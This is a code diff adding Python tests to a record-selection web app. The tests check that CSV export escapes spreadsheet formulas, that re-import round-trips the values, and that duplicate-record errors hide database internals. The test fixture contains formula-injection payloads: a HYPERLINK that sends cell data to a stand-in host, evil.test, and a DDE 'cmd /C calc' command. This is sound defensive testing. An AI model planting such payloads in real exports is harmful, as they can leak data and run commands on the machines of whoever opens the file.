@@ -204,3 +204,57 @@ def test_saving_a_record_whose_seed_never_answers_does_not_hold_other_requests(
             silent.close()
     assert saved and saved[0].status_code == 400
     assert f"http://127.0.0.1:{port}/: not reachable" in saved[0].text
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.test/?"&A1,"click")',
+    "keywords": "@SUM(1+1)",
+    "content_notes": "-2+3",
+    "technical_notes": "=cmd|' /C calc'!A0",
+    "curator": "'=already quoted",
+    "creator": "+1",  # a number: left as it is
+}
+
+
+def test_the_csv_export_escapes_formulas_and_the_import_reads_it_back_the_same(
+    db_engine: sa.Engine,
+    tmp_path: Path,
+    site: int,  # noqa: F811
+) -> None:
+    from harvest.selection.importer import import_file
+
+    carol = _client(db_engine, tmp_path, "carol")
+    token = page_token(carol.get("/records/new").text)
+    made = carol.post("/records/new", data={**_fields(site, **FORMULAS), "csrf_token": token})
+    assert made.status_code == 303, made.text
+    exported = carol.get("/records/export.csv")
+    (row,) = csv.DictReader(io.StringIO(exported.text))
+    for name, value in FORMULAS.items():
+        shown = value if name == "creator" else "'" + value
+        assert row[name] == shown, name  # a spreadsheet shows these as text
+    assert not [(k, v) for k, v in row.items() if v[:1] in ("=", "@", "\t", "\r")]
+
+    path = tmp_path / "export.csv"
+    path.write_text(exported.text, encoding="utf-8")
+    report = import_file(path, check_urls=False, engine=db_engine, user="carol")
+    assert (report.unchanged, report.inserted, report.updated, report.errors) == (1, 0, 0, [])
+    with db_engine.connect() as conn:
+        stored = conn.execute(sa.text("SELECT * FROM selection_records")).mappings().one()
+    assert stored["title"] == FORMULAS["title"] and stored["curator"] == FORMULAS["curator"]
+    assert stored["keywords"] == [FORMULAS["keywords"]]
+
+
+def test_a_conflict_is_refused_in_words_without_the_database_s(
+    db_engine: sa.Engine,
+    tmp_path: Path,
+    site: int,  # noqa: F811
+) -> None:
+    carol = _client(db_engine, tmp_path, "carol")
+    token = page_token(carol.get("/records/new").text)
+    first = carol.post("/records/new", data={**_fields(site), "csrf_token": token})
+    assert first.status_code == 303
+    again = carol.post("/records/new", data={**_fields(site), "csrf_token": token})
+    assert again.status_code == 400
+    assert "its collection already has a record for this seed URL" in again.text
+    for internal in ("selection_records_", "duplicate key", "constraint", "Key ("):
+        assert internal not in again.text
